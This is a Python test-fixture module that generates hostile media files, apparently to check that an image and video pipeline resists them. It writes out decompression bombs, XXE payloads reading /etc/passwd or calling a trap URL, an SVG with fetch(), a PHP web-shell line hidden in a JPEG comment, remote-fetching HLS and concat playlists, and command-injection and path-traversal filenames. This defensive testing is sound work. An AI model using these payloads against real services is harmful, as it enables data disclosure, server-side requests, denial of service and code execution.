"""Hostile files, made on the fly: each kind is a name and a way to write it.

What any of them carries has `MARK` in it, so that one sees whether it came through; where one
names an address, it is that of the trap.
"""

import io
import struct
import subprocess
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path
from tempfile import TemporaryDirectory

import numpy
import pyvips
import tifffile

from media.decoding import ffmpeg
from tests.media import captures, microscopes

MARK = b"akashi-hostile-payload"
Write = Callable[[Path, str], None]  # where to, and the address that must never be called


@dataclass(frozen=True, slots=True)
class Hostile:
    """`may_be_shown`: it is a picture or a film all the same, and what is made of it is clean."""

    name: str
    write: Write
    may_be_shown: bool = False


@lru_cache(maxsize=1)
def good_jpeg() -> bytes:
    """A small photograph."""
    with TemporaryDirectory() as folder:
        return captures.still(Path(folder) / "good.jpg", width=320, height=240).read_bytes()


@lru_cache(maxsize=4)
def good_film(suffix: str = "mp4") -> bytes:
    """A short film a messenger takes as it is."""
    with TemporaryDirectory() as folder:
        path = captures.film(Path(folder) / f"good.{suffix}", size="160x120", seconds=0.4)
        return path.read_bytes()


@lru_cache(maxsize=8)
def good_still(suffix: str) -> bytes:
    """The same picture in another form."""
    return bytes(pyvips.Image.new_from_buffer(good_jpeg(), "").write_to_buffer(f".{suffix}"))


def _bytes(content: Callable[[str], bytes]) -> Write:
    return lambda path, url: path.write_bytes(content(url)) and None


def _same(content: bytes) -> Write:
    return lambda path, _: path.write_bytes(content) and None


def _cut(whole: Callable[[], bytes], part: float) -> Write:
    return lambda path, _: path.write_bytes(whole()[: int(len(whole()) * part)]) and None


# Pictures that are more than they seem.


def _chunk(name: bytes, body: bytes) -> bytes:
    crc = struct.pack(">I", zlib.crc32(name + body))
    return struct.pack(">I", len(body)) + name + body + crc


def png(width: int, height: int, *chunks: bytes, rows: int = 1) -> bytes:
    """A PNG that claims that size and has so many grey rows."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(bytes(min(width + 1, 4096) * rows))
    parts = (_chunk(b"IHDR", header), *chunks, _chunk(b"IDAT", pixels), _chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _zeros(size: int) -> bytes:
    return zlib.compress(bytes(size), 9)


def _text_bomb(_: str) -> bytes:
    return png(8, 8, _chunk(b"zTXt", b"Comment\0\0" + _zeros(200_000_000)), rows=8)


def _profile_bomb(_: str) -> bytes:
    return png(8, 8, _chunk(b"iCCP", b"x\0\0" + _zeros(200_000_000)), rows=8)


def _with_segment(marker: int, body: bytes) -> bytes:
    content = good_jpeg()
    return content[:2] + struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body + content[2:]


def _comment(body: bytes) -> bytes:
    return _with_segment(0xFE, body + MARK)


def _jpeg_of(width: int, height: int) -> bytes:
    """Its frame header claims another size."""
    content = bytearray(good_jpeg())
    at = content.index(b"\xff\xc0") + 5
    content[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(content)


def _many_scans(_: str) -> bytes:
    """A progressive JPEG whose last scan comes two thousand times."""
    image = pyvips.Image.new_from_buffer(good_jpeg(), "")
    content = bytes(image.jpegsave_buffer(interlace=True))
    last = content.rindex(b"\xff\xda")
    return content[:last] + content[last:-2] * 2000 + content[-2:]


def _tiff(
    entries: Sequence[tuple[int, int, int, int]], rest: bytes = b"", *, following: int = 0
) -> bytes:
    """Little-endian, one directory at 8."""
    told = b"".join(struct.pack("<HHII", *each) for each in entries)
    directory = struct.pack("<H", len(entries)) + told + struct.pack("<I", following)
    return b"II*\0" + struct.pack("<I", 8) + directory + rest


def _tiff_of(width: int, height: int, *, bands: int = 1, bits: int = 8) -> bytes:
    entries = [
        (256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, bits), (259, 3, 1, 1),
        (262, 3, 1, 1), (273, 4, 1, 200), (277, 3, 1, bands), (278, 4, 1, height),
        (279, 4, 1, 100),
    ]  # fmt: skip
    return _tiff(entries, bytes(400))


def _pages(path: Path, _: str) -> None:
    microscopes.many_pages(path, 5000)


def _ring(path: Path, _: str) -> None:
    """Its first directory is followed by itself."""
    path.write_bytes(_tiff([(256, 4, 1, 4), (257, 4, 1, 4)], bytes(64), following=8))


def _dng_ring(_: str) -> bytes:
    """A DNG whose pictures inside lead back to it."""
    return _tiff([(50706, 1, 4, 0x00000401), (330, 4, 1, 8), (256, 4, 1, 4)], bytes(64))


def _dng_fan(_: str) -> bytes:
    """A DNG with a thousand directories inside, all the same one."""
    at = 8 + 2 + 12 * 2 + 4
    return _tiff(
        [(50706, 1, 4, 0x00000401), (330, 4, 1000, at)], struct.pack("<I", 8) * 1000
    )  # fmt: skip


def _big_tiff_bomb(_: str) -> bytes:
    entries = [(256, 4, 1, 200_000), (257, 4, 1, 200_000), (258, 3, 1, 8), (262, 3, 1, 1)]
    told = b"".join(struct.pack("<HHQQ", *each) for each in entries)
    return b"II+\0\x08\0\0\0" + struct.pack("<QQ", 16, len(entries)) + told + bytes(64)


def _deflated_tiff(path: Path, _: str) -> None:
    tifffile.imwrite(
        path, numpy.zeros((30_000, 30_000), "uint8"), compression="zlib", rowsperstrip=30_000
    )


def _ome(told: Callable[[str], str]) -> Write:
    def write(path: Path, url: str) -> None:
        description = told(url)
        tifffile.imwrite(
            path, numpy.zeros((64, 64), "uint8"), description=description.encode(), metadata=None
        )

    return write


def _entities(_: str) -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return (
        f'<?xml version="1.0"?><!DOCTYPE OME [<!ENTITY l0 "{MARK.decode()}">{levels}]>'
        '<OME xmlns="http://www.openmicroscopy.org/Schemas/OME/2016-06"><Image>'
        '<Pixels SizeX="64" SizeY="64" PhysicalSizeX="&l9;"/>&l9;</Image></OME>'
    )


def _outside(url: str) -> str:
    return (
        f'<?xml version="1.0"?><!DOCTYPE OME SYSTEM "{url}/ome.dtd" [<!ENTITY x SYSTEM "{url}/x">'
        '<!ENTITY y SYSTEM "file:///etc/passwd">]>'
        '<OME xmlns="http://www.openmicroscopy.org/Schemas/OME/2016-06"><Image>'
        '<Pixels SizeX="64" SizeY="64">&x;&y;</Pixels></Image></OME>'
    )


def _exif(entries: Sequence[tuple[int, int, int, int]], rest: bytes = b"") -> bytes:
    return _with_segment(0xE1, (b"Exif\0\0" + _tiff(entries, rest))[:65_000])


def _exif_ring(_: str) -> bytes:
    """EXIF, GPS and maker directories that are one another."""
    return _exif([(34665, 4, 1, 8), (34853, 4, 1, 8), (40965, 4, 1, 8), (37500, 7, 4000, 8)])


def _exif_claims(_: str) -> bytes:
    return _exif([(271, 2, 0xFFFFFFF0, 26), (272, 2, 4_000_000, 0xFFFFFF00), (37510, 7, 2**31, 8)])


def _exif_long(_: str) -> bytes:
    word = MARK * 2700
    return _exif([(271, 2, len(word), 26), (272, 2, len(word), 26)], word)


def _thumbnail(_: str) -> bytes:
    """A thumbnail inside that is another hostile file."""
    inside = b"\xff\xd8\xff" + MARK + _jpeg_of(65_500, 65_500)[:4000]
    at = 8 + 2 + 12 + 4
    second = struct.pack("<H", 2) + struct.pack("<HHII", 513, 4, 1, at + 30)
    second += struct.pack("<HHII", 514, 4, 1, len(inside)) + bytes(4)
    body = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 1)
    body += struct.pack("<HHII", 274, 3, 1, 1) + struct.pack("<I", at) + second + inside
    return _with_segment(0xE1, b"Exif\0\0" + body)


def _xmp(url: str) -> bytes:
    told = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{url}/xmp">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&a;'
    return _with_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + told.encode() + MARK)


def _webp_bomb(_: str) -> bytes:
    size = (16_383 - 1) | (16_383 - 1) << 14
    body = b"\x2f" + struct.pack("<I", size) + bytes(64)
    chunk = b"VP8L" + struct.pack("<I", len(body)) + body + bytes(len(body) % 2)
    return b"RIFF" + struct.pack("<I", len(chunk) + 4) + b"WEBP" + chunk


# Files that are two things at once, and things with a picture's name.


def archive() -> bytes:
    """A zip."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as made:
        made.writestr("run.exe", MARK)
    return held.getvalue()


def _wide_archive(before: bytes) -> bytes:
    """A zip whose end says everything in its wide record (PKZIP's application note, 4.3.14)."""
    made = archive()
    at = made.rindex(b"PK\5\6")
    entries, length, start = struct.unpack_from("<HII", made, at + 10)
    start += len(before)
    wide = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, entries, entries, length, start)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, len(before) + at, 1)
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, entries, entries, length, 0xFFFFFFFF, 0)
    return made[:at] + wide + locator + end


def _parted(before: bytes) -> bytes:
    """A picture and a zip whose list lies apart from the end that tells where it is."""
    made = archive()
    at = made.rindex(b"PK\5\6")
    entries, length, start = struct.unpack_from("<HII", made, at + 10)
    told = struct.pack("<HII", entries, length, start + len(before))
    return before + made[:at] + bytes(64) + made[at : at + 10] + told + made[at + 20 :]


def _svg(url: str) -> bytes:
    told = (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="{url}/svg"/>'
        f'<image href="file:///etc/passwd"/><script>fetch("{url}")</script></svg>'
    )
    return told.encode() + MARK


def _mvg(url: str) -> bytes:
    return f"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 9,9 'url({url}/mvg)'\n".encode()


def _ftyp(brand: bytes, *brands: bytes) -> bytes:
    return struct.pack(">I4s4sI", 16 + 4 * len(brands), b"ftyp", brand, 0) + b"".join(brands)


def _box(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I4s", len(body) + 8, name) + body


def _full(name: bytes, body: bytes) -> bytes:
    return _box(name, bytes(4) + body)


def _grid(_: str) -> bytes:
    """A HEIC that claims a grid of 256 by 256 pictures of 16,000 pixels."""
    rows = struct.pack(">BBBBII", 0, 1, 255, 255, 4_000_000, 4_000_000)
    items = struct.pack(">HHH4s", 1, 0, 0, b"grid") + b"\0"
    iinf = _full(b"iinf", struct.pack(">H", 1) + _box(b"infe", b"\x02\0\0\0" + items))
    shown = _full(b"ispe", struct.pack(">II", 4_000_000, 4_000_000))
    owned = _full(b"ipma", struct.pack(">IHBB", 1, 1, 1, 0x81))
    iprp = _box(b"iprp", _box(b"ipco", shown) + owned)
    iloc = _box(b"iloc", b"\x01\0\0\0\x44\0" + struct.pack(">HHHHHII", 1, 1, 1, 0, 1, 0, len(rows)))
    meta = _full(
        b"meta",
        _full(b"hdlr", bytes(4) + b"pict" + bytes(13)) + _full(b"pitm", b"\0\1") + iinf + iprp
        + iloc + _box(b"idat", rows),
    )  # fmt: skip
    return _ftyp(b"heic", b"mif1", b"heic") + meta


# Lists and scripts that lead elsewhere, with a film's name.


def _hls(url: str) -> bytes:
    return (
        f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{url}/a.ts\nfile:///etc/passwd\n".encode()
    )


def _concat(url: str) -> bytes:
    return f"ffconcat version 1.0\nfile '{url}/a.mp4'\nfile 'file:///etc/passwd'\n".encode()


def _dash(url: str) -> bytes:
    return f'<?xml version="1.0"?><MPD><BaseURL>{url}/</BaseURL></MPD>'.encode()


def _sdp(url: str) -> bytes:
    host = url.partition("//")[2].partition(":")[0]
    return f"v=0\no=- 0 0 IN IP4 {host}\nc=IN IP4 {host}\nm=video 9 RTP/AVP 96\n".encode()


def _references(kind: bytes) -> Write:
    """A film whose samples lie elsewhere: QuickTime's data references."""

    def write(path: Path, url: str) -> None:
        content = bytearray(good_film("mov"))
        at = content.index(b"dref") - 4
        size = int.from_bytes(content[at : at + 4], "big")
        place = f"{url}/elsewhere.mov".encode() + b"\0"
        made = _full(b"dref", struct.pack(">I", 1) + _full(kind, place))
        # Every box around it grows by the same.
        more = len(made) - size
        for around in (b"moov", b"trak", b"mdia", b"minf", b"dinf"):
            begin = bytes(content).rindex(around, 0, at) - 4
            length = int.from_bytes(content[begin : begin + 4], "big")
            content[begin : begin + 4] = (length + more).to_bytes(4, "big")
        content[at : at + size] = made
        path.write_bytes(content)

    return write


def _elsewhere(url: str) -> bytes:
    """QuickTime's reference film: all of it is somewhere else."""
    place = f"{url}/film.mov".encode() + b"\0"
    rdrf = _full(b"rdrf", b"url " + struct.pack(">I", len(place)) + place)
    return _ftyp(b"qt  ") + _box(b"moov", _box(b"rmra", _box(b"rmda", rdrf)))


# Films of no sense.


def _patched(before: bytes, place: int, value: bytes) -> Callable[[str], bytes]:
    """A good film with other bytes so far behind that name."""

    def made(_: str) -> bytes:
        content = bytearray(good_film())
        for at in range(len(content) - 3):
            if content[at : at + 4] == before:
                content[at + place : at + place + len(value)] = value
        return bytes(content)

    return made


def _with(*options: str, suffix: str, inputs: Sequence[str] = ()) -> Write:
    """What ffmpeg makes of moving bars and these."""

    def write(path: Path, _: str) -> None:
        made = path.with_name(f"made.{suffix}")
        bars = ("-f", "lavfi", "-i", "testsrc2=s=64x64:r=10:d=0.3")
        command = [ffmpeg.find(), "-hide_banner", "-loglevel", "error", "-y", *bars, *inputs]
        subprocess.run([*command, *options, str(made)], check=True, timeout=60)
        made.replace(path)

    return write


def film_of(streams: int, suffix: str) -> Write:
    """The same moving picture, so many times."""
    many = ("-map", "0:v") * streams
    return _with(*many, "-c:v", "mpeg4", suffix=suffix)


def _subtitled(path: Path, url: str) -> None:
    words = path.with_name("words.srt")
    words.write_bytes(b"1\n00:00:00,000 --> 00:00:01,000\n" + MARK + f"{url}\n".encode())
    given = ("-i", str(words))
    _with("-map", "0", "-map", "1", "-c:s", "srt", suffix="mkv", inputs=given)(path, url)
    words.unlink()


def _attached(path: Path, url: str) -> None:
    held = path.with_name("held.bin")
    held.write_bytes(MARK * 50)
    options = ("-attach", str(held), "-metadata:s:t", "mimetype=application/x-msdownload")
    _with(*options, suffix="mkv")(path, url)
    held.unlink()


def _only_sound(path: Path, _: str) -> None:
    tone = ("-f", "lavfi", "-i", "sine=d=0.3", "-c:a", "aac", str(path))
    command = [ffmpeg.find(), "-hide_banner", "-loglevel", "error", "-y", *tone]
    subprocess.run(command, check=True, timeout=60)


def _small_boxes(_: str) -> bytes:
    return _ftyp(b"isom", b"mp42") + _box(b"free", b"") * 20_000 + good_film()[32:]


def _deep_boxes(_: str) -> bytes:
    inside = b""
    for _n in range(4000):
        inside = _box(b"moov", inside)
    return _ftyp(b"isom", b"mp42") + inside


def _marked_film(_: str) -> bytes:
    return good_film() + _box(b"free", MARK) + _box(b"uuid", MARK * 9)


BOMBS = (
    Hostile("bomb.png", lambda path, _: captures.bomb(path) and None),
    Hostile("wide.png", _same(png(2**31 - 1, 1))),
    Hostile("square.png", _same(png(2**31 - 1, 2**31 - 1))),
    Hostile("nothing.png", _same(png(0, 0))),
    Hostile("text.png", _bytes(_text_bomb), may_be_shown=True),
    Hostile("profile.png", _bytes(_profile_bomb), may_be_shown=True),
    Hostile("frame.jpg", _bytes(lambda _: _jpeg_of(65_500, 65_500))),
    Hostile("scans.jpg", _bytes(_many_scans), may_be_shown=True),
    Hostile("bands.tif", _same(_tiff_of(20_000, 10_000, bands=60_000))),
    Hostile("pages.tif", _pages),
    Hostile("claims.tif", _same(_tiff_of(4_000_000, 4_000_000))),
    Hostile("doubles.tif", _same(_tiff_of(17_000, 17_000, bits=64))),
    Hostile("big.tif", _bytes(_big_tiff_bomb)),
    Hostile("webp.webp", _bytes(_webp_bomb)),
    Hostile("grid.heic", _bytes(_grid)),
)  # fmt: skip
CUT = tuple(
    Hostile(f"cut{n}-{round(part * 1000)}.{suffix}", _cut(whole, part))
    for n, (suffix, whole) in enumerate(
        [
            ("jpg", good_jpeg),
            ("png", lambda: good_still("png")),
            ("tif", lambda: good_still("tif")),
            ("webp", lambda: good_still("webp")),
            ("mp4", good_film),
            ("mkv", lambda: good_film("mkv")),
        ]
    )
    for part in ((0.002, 0.03, 0.5, 0.9) if suffix != "mkv" else (0.002, 0.05))
)
DOUBLE = (
    Hostile("zip.jpg", _bytes(lambda _: good_jpeg() + archive())),
    Hostile("zip.png", _bytes(lambda _: good_still("png") + archive())),
    Hostile("zip.mp4", _bytes(lambda _: good_film() + archive())),
    Hostile("zip64.jpg", _bytes(lambda _: good_jpeg() + _wide_archive(good_jpeg()))),
    Hostile("zip-apart.jpg", _bytes(lambda _: _parted(good_jpeg()))),
    Hostile("only-a-zip.jpg", _bytes(lambda _: archive())),
    Hostile("picture.mp4", _bytes(lambda _: _comment(b"by another name")), True),
    Hostile("film.jpg", _bytes(_marked_film), True),
    Hostile("php.jpg", _bytes(lambda _: _comment(b"<?php system($_GET[0]); ")), True),
    Hostile("html.jpg", _bytes(lambda _: good_jpeg() + b"<html><script>" + MARK), True),
    Hostile("pdf-too.jpg", _bytes(lambda _: _comment(b"%PDF-1.7 ")), True),
    Hostile("xmp.jpg", _bytes(_xmp), True),
    Hostile("svg.jpg", _bytes(_svg)),
    Hostile("svg.png", _bytes(_svg)),
    Hostile("pdf.jpg", _same(b"%PDF-1.7\n1 0 obj<</AA<</O<</S/URI>>>>>>" + MARK)),
    Hostile("gif.jpg", _same(b"GIF89a/*" + MARK + b"*/=1;alert(1)//" + bytes(40))),
    Hostile("script.tif", _same(b"%!PS-Adobe-3.0\n(/etc/passwd)(r)file " + MARK)),
    Hostile("drawing.png", _bytes(_mvg)),
    Hostile("page.png", _same(b"<!doctype html><script>" + MARK + b"</script>")),
    Hostile("program.jpg", _same(b"\x7fELF\x02\x01\x01" + MARK)),
    Hostile("shell.mp4", _same(b"#!/bin/sh\necho " + MARK)),
    Hostile("nothing.jpg", _same(b"")),
    Hostile("byte.mp4", _same(b"\0")),
    Hostile("zeros.jpg", _same(bytes(200_000))),
    Hostile("avif.heic", _same(_ftyp(b"avif", b"mif1", b"avif") + _box(b"meta", MARK * 9))),
    Hostile("avif.jpg", _same(_ftyp(b"avif", b"avif") + _box(b"meta", MARK * 9))),
    Hostile("heif.jpg", _same(_ftyp(b"heic", b"heic") + _box(b"meta", bytes(200)))),
)  # fmt: skip
MARKED = (
    Hostile("ring.tif", _ring),
    Hostile("ring.dng", _bytes(_dng_ring)),
    Hostile("fan.dng", _bytes(_dng_fan)),
    Hostile("entities.ome.tif", _ome(_entities), True),
    Hostile("outside.ome.tif", _ome(_outside), True),
    Hostile("exif-ring.jpg", _bytes(_exif_ring), True),
    Hostile("exif-claims.jpg", _bytes(_exif_claims), True),
    Hostile("exif-long.jpg", _bytes(_exif_long), True),
    Hostile("exif-thumbnail.jpg", _bytes(_thumbnail), True),
)
LEADS = (
    Hostile("hls.mp4", _bytes(_hls)),
    Hostile("hls.mov", _bytes(_hls)),
    Hostile("hls.ts", _bytes(_hls)),
    Hostile("hls-boxed.mp4", _bytes(lambda url: _ftyp(b"isom", b"mp41") + _hls(url))),
    Hostile("hls-ebml.mkv", _bytes(lambda url: b"\x1a\x45\xdf\xa3matroska" + _hls(url))),
    Hostile("concat.mp4", _bytes(_concat)),
    Hostile("concat.avi", _bytes(_concat)),
    Hostile("dash.mp4", _bytes(_dash)),
    Hostile("session.mp4", _bytes(_sdp)),
    Hostile("elsewhere.mov", _bytes(_elsewhere)),
    Hostile("address.mov", _references(b"url "), True),  # its samples are in it all the same
    Hostile("alias.mov", _references(b"alis"), True),
)
FILMS = (
    Hostile("no-length.mp4", _bytes(_patched(b"mvhd", 16, bytes(8))), True),
    Hostile("endless.mp4", _bytes(_patched(b"mvhd", 16, struct.pack(">II", 1, 0xFFFFFFF0)))),
    Hostile("frantic.mp4", _bytes(_patched(b"mdhd", 16, struct.pack(">I", 0x7FFFFFFF))), True),
    Hostile("sound.mp4", _only_sound),
    Hostile("streams.mkv", film_of(200, "mkv")),
    Hostile("words.mkv", _subtitled, True),
    Hostile("attached.mkv", _attached, True),
    Hostile("boxes.mp4", _bytes(_small_boxes)),
    Hostile("deep.mp4", _bytes(_deep_boxes)),
    Hostile("free.mp4", _bytes(_marked_film), True),
    Hostile("large.mkv", _with("-vf", "scale=9000:64", "-c:v", "mjpeg", suffix="mkv")),
    Hostile("packets.ts", _same((b"\x47" + bytes(187)) * 400)),
    Hostile("index.avi", _same(b"RIFF\xff\xff\xff\xffAVI LIST\xff\xff\xff\xffhdrl" + bytes(400))),
)
KINDS = (*BOMBS, *CUT, *DOUBLE, *MARKED, *LEADS, *FILMS)

# What a good picture may be called, and it is still only a picture.
NAMES = (
    "-y.jpg", "--help.jpg", "http:x.jpg", "file:x.jpg", "a b'c\"d$(id)`id`;|&.jpg", "%s%n%x.jpg",
    "new\nline.jpg", "bell\a\x1b[2J.jpg", "right\u202egpj.exe.jpg", "\u2066x\u2069.jpg", "con.jpg",
    "ﾊﾝｶｸ.jpg", "e\u0301.jpg", "a" * 250 + ".jpg", "x.php.jpg", "<script>.jpg",
)  # fmt: skip
SENT_NAMES = (
    "../../etc/passwd.jpg", "..\\..\\x.jpg", "/etc/x.jpg", "あ" * 300 + ".jpg", "a" * 300 + ".jpg",
    "x\0y.jpg", "C:\\x.jpg", "..jpg",
)  # fmt: skip
